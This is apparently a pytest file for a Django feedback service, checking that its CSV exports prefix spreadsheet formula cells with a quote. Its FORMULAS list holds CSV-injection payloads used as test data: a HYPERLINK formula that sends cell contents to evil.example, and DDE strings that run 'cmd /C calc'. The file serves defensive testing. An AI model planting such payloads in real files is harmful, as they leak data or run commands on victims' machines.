"""CSV exports through the API: cells a spreadsheet would run as a formula are neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from feedback import csvsafe
from feedback.models import FeedbackAggregate
from tests.factories import T0, post, session

#: Cells a spreadsheet reads as a formula (OWASP "CSV injection"): each must come back prefixed
#: with a single quote.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def rows(response) -> list[dict]:
    assert response.status_code == 200, response
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def create(api, contents):
    items = [
        {"namespace": "support", "content": c, "epistemic_type": "ASSERTED", "ts": T0.isoformat()}
        for c in contents
    ]
    response = api.post("/api/v1/objects", items, format="json")
    assert response.status_code == 201, response.json()
    ids = [o["id"] for o in response.json()]
    # An object has an aggregate row (and an aggregates line) once it has been injected.
    assert post(api, session("inject-all", [(i, 10) for i in ids], hours=100)).status_code == 201
    return ids


@pytest.mark.django_db
def test_aggregates_export_neutralises_formula_content(client_api):
    ids = create(client_api, [*FORMULAS, "plain fact", "'already quoted"])
    exported = {
        r["object_id"]: r
        for r in rows(client_api.get("/api/v1/export/aggregates.csv?namespace=support"))
    }
    for oid, content in zip(ids, FORMULAS, strict=False):
        assert exported[oid]["content"] == "'" + content
    assert exported[ids[-2]]["content"] == "plain fact"
    assert exported[ids[-1]]["content"] == "'already quoted"


@pytest.mark.django_db
def test_aggregates_export_keeps_negative_numbers_numeric(client_api):
    (oid,) = create(client_api, ["-5 is a text cell"])
    FeedbackAggregate.objects.filter(object_id=oid).update(utility=-0.25)
    (row,) = rows(client_api.get("/api/v1/export/aggregates.csv?namespace=support"))
    assert row["utility"] == "-0.25"
    assert row["total_injections"] == "1"
    assert row["confidence"] == "0.75"
    assert row["content"] == "'-5 is a text cell"


@pytest.mark.django_db
def test_sessions_export_neutralises_formula_ids(client_api):
    (oid,) = create(client_api, ["fact"])
    formulas = FORMULAS
    for i, formula in enumerate(formulas):
        body = session(formula, [(oid, 10)], hours=i + 200, session_id=f"@conv{formula}")
        response = post(client_api, body)
        assert response.status_code == 201, response.json()
    exported = rows(client_api.get("/api/v1/export/sessions.csv?namespace=support"))[1:]
    assert [r["request_id"] for r in exported] == ["'" + f for f in formulas]
    assert [r["session_id"] for r in exported] == ["'@conv" + f for f in formulas]
    assert all(r["context_budget"] == "1000" and r["tokens_used"] == "100" for r in exported)


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_every_formula_prefix_is_quoted(text):
    # The API strips surrounding whitespace from the text it stores, so the tab and carriage
    # return forms cannot reach an export today; the rule covers them for when one can.
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.25, -3, 0.75, True, "", "plain", "a=b", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csvsafe.cell(value) == value
